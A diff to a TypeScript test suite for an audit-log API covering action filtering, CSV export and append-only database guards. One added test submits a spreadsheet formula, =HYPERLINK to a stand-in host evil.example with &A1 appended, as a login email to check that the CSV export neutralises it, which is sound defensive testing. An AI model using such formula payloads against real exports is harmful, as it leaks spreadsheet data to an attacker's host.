@@ -1,9 +1,7 @@
-import { spawnSync } from "node:child_process";
 import { randomUUID } from "node:crypto";
-import pg from "pg";
-import { afterAll, beforeAll, describe, expect, inject, it } from "vitest";
+import { parse } from "csv-parse/sync";
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { recordStandaloneAudit, systemAuditContext } from "../src/db/audit.ts";
-import { connect, migrateDatabase } from "../src/db/database.ts";
 import { verifyAuditChain } from "../src/server/platform/audit-queries.ts";
 import { buildTestApp, type TestApp, withOwnDatabase } from "./helpers/app.ts";
 import { actorWith, buildArea, buildMunicipality } from "./helpers/factories.ts";
@@ -142,6 +140,32 @@ describe("GET /api/audit", () => {
   });
 });
 
+describe("the action filter", () => {
+  it("matches an underscore literally: auth.sign_in finds sign-ins, and only them", async () => {
+    const email = `sign-in-${randomUUID().slice(0, 8)}@nowhere.example`;
+    const login = await t.app.inject({
+      method: "POST",
+      url: "/api/auth/login",
+      payload: { email, password: "wrong-password-here" },
+    });
+    expect(login.statusCode).toBe(401);
+    const res = await get(
+      `/api/audit?action=auth.sign_in&actor=${encodeURIComponent(email)}`,
+      sysadmin.headers,
+    );
+    expect(res.statusCode).toBe(200);
+    expect((res.json() as Entry[]).map((e) => [e.action, e.actorLabel])).toEqual([
+      ["auth.sign_in", email],
+    ]);
+    // The underscore is not a wildcard: "auth.sign?in" is no action prefix that exists.
+    const wildcard = await get(
+      `/api/audit?action=auth.sign%25&actor=${encodeURIComponent(email)}`,
+      sysadmin.headers,
+    );
+    expect(wildcard.json()).toEqual([]);
+  });
+});
+
 describe("GET /api/audit/export.csv", () => {
   it("exports the filtered rows with a header row, and records the export", async () => {
     const municipality = await buildMunicipality(t.db);
@@ -174,6 +198,27 @@ describe("GET /api/audit/export.csv", () => {
     ]);
   });
 
+  it("neutralises a formula sent as a sign-in name before it reaches a spreadsheet", async () => {
+    const marker = randomUUID().slice(0, 8);
+    const hostile = `=HYPERLINK("http://evil.example/?x=${marker}"&A1,"click")`;
+    const login = await t.app.inject({
+      method: "POST",
+      url: "/api/auth/login",
+      payload: { email: hostile, password: "wrong-password-here" },
+    });
+    expect(login.statusCode).toBe(401);
+    const res = await get(
+      `/api/audit/export.csv?action=auth.sign_in&actor=${marker}`,
+      sysadmin.headers,
+    );
+    expect(res.statusCode).toBe(200);
+    const rows = parse(res.body.replace(/^\uFEFF/, "")) as string[][];
+    expect(rows).toHaveLength(2);
+    const actor = rows[1]![rows[0]!.indexOf("actor")]!;
+    expect(actor).toBe(`'${hostile.toLowerCase()}`);
+    expect(rows.flat().some((cell) => /^[=+\-@\t\r]/.test(cell))).toBe(false);
+  });
+
   it("refuses another municipality's log", async () => {
     const municipality = await buildMunicipality(t.db);
     const admin = await actorWith(t, "org_admin", municipality.id);
@@ -185,21 +230,27 @@ describe("GET /api/audit/export.csv", () => {
 
 describe("the audit table in PostgreSQL", () => {
   // Each statement targets a real row (row triggers do not fire for none) inside a transaction
-  // that is rolled back, so the shared log stays whole even if a guard were missing.
+  // that is rolled back, so the shared log stays whole even if a guard were missing. The runtime
+  // role is refused by its grants; the owner, who holds every grant, by the triggers.
   it.each([
     "UPDATE platform.audit_log SET details = '{}' WHERE seq = (SELECT max(seq) FROM platform.audit_log)",
     "DELETE FROM platform.audit_log WHERE seq = (SELECT max(seq) FROM platform.audit_log)",
     "TRUNCATE platform.audit_log",
-  ])("rejects %s", async (statement) => {
+  ])("rejects %s, as the runtime role and as the owner", async (statement) => {
     await buildArea(t.db, (await buildMunicipality(t.db)).id);
     await recordStandaloneAudit(t.db, systemAuditContext("test"), { action: "seed.demo" });
-    const client = await t.pool.connect();
-    try {
-      await client.query("BEGIN");
-      await expect(client.query(statement)).rejects.toThrow(/append-only/);
-    } finally {
-      await client.query("ROLLBACK");
-      client.release();
+    for (const [pool, message] of [
+      [t.pool, /permission denied for table audit_log/],
+      [t.owner.pool, /append-only/],
+    ] as const) {
+      const client = await pool.connect();
+      try {
+        await client.query("BEGIN");
+        await expect(client.query(statement)).rejects.toThrow(message);
+      } finally {
+        await client.query("ROLLBACK");
+        client.release();
+      }
     }
   });
 
@@ -209,94 +260,6 @@ describe("the audit table in PostgreSQL", () => {
     expect(result.ok).toBe(true);
     expect(result.rows).toBeGreaterThan(0);
     expect(result.headHash).toMatch(/^[0-9a-f]{64}$/);
-  });
-});
-
-describe("tampering, in throwaway databases", () => {
-  const base = inject("databaseUrl");
-  const created: string[] = [];
-  let admin: pg.Client;
-
-  beforeAll(async () => {
-    admin = new pg.Client({ connectionString: base });
-    await admin.connect();
-  });
-  afterAll(async () => {
-    for (const name of created) await admin.query(`DROP DATABASE IF EXISTS ${name} WITH (FORCE)`);
-    await admin.end();
-  });
-
-  /** A migrated database holding five audit rows; returns its URL and their sequence numbers. */
-  async function chainedDatabase() {
-    const name = `tamper_${randomUUID().replace(/-/g, "").slice(0, 12)}`;
-    await admin.query(`CREATE DATABASE ${name}`);
-    created.push(name);
-    const url = new URL(base);
-    url.pathname = `/${name}`;
-    await migrateDatabase(url.toString());
-    const { db, pool } = connect(url.toString(), 2);
-    for (let i = 1; i <= 5; i++) {
-      await recordStandaloneAudit(db, systemAuditContext("tamper-test"), {
-        action: "seed.demo",
-        details: { i },
-      });
-    }
-    const seqs = (
-      await pool.query<{ seq: string }>("SELECT seq FROM platform.audit_log ORDER BY seq")
-    ).rows.map((r) => Number(r.seq));
-    expect((await verifyAuditChain(db)).ok).toBe(true);
-    return { url: url.toString(), db, pool, seqs };
-  }
-
-  function cli(url: string, ...args: string[]) {
-    return spawnSync(process.execPath, ["bin/paraply.js", ...args], {
-      env: { ...process.env, DATABASE_URL: url },
-      encoding: "utf8",
-      timeout: 60_000,
-    });
-  }
-
-  it("finds a changed row, and `paraply audit verify` exits 1", async () => {
-    const { url, db, pool, seqs } = await chainedDatabase();
-    const target = seqs[2]!;
-    await pool.query("ALTER TABLE platform.audit_log DISABLE TRIGGER USER");
-    await pool.query(`UPDATE platform.audit_log SET details = '{"i": 99}' WHERE seq = $1`, [
-      target,
-    ]);
-    await pool.query("ALTER TABLE platform.audit_log ENABLE TRIGGER USER");
-    const result = await verifyAuditChain(db);
-    expect(result.ok).toBe(false);
-    expect(result.problems).toEqual([{ seq: target, problem: "hash_mismatch" }]);
-    await pool.end();
-
-    const run = cli(url, "audit", "verify");
-    expect(run.status).toBe(1);
-    expect(run.stderr).toContain(`first at seq ${target}`);
-    expect(JSON.parse(run.stdout)).toMatchObject({ ok: false });
-  });
-
-  it("finds a removed row", async () => {
-    const { db, pool, seqs } = await chainedDatabase();
-    const removed = seqs[2]!;
-    await pool.query("ALTER TABLE platform.audit_log DISABLE TRIGGER USER");
-    await pool.query("DELETE FROM platform.audit_log WHERE seq = $1", [removed]);
-    await pool.query("ALTER TABLE platform.audit_log ENABLE TRIGGER USER");
-    const result = await verifyAuditChain(db);
-    await pool.end();
-    expect(result.ok).toBe(false);
-    expect(result.problems).toEqual(
-      expect.arrayContaining([
-        { seq: removed + 1, problem: "missing_rows" },
-        { seq: removed + 1, problem: "broken_link" },
-      ]),
-    );
-  });
-
-  it("`paraply audit verify` exits 0 on the run's own, untampered database", () => {
-    const run = cli(base, "audit", "verify");
-    expect(run.stderr).not.toContain("tampered");
-    expect(run.status).toBe(0);
-    expect(JSON.parse(run.stdout)).toMatchObject({ ok: true, problems: [] });
   });
 });
 
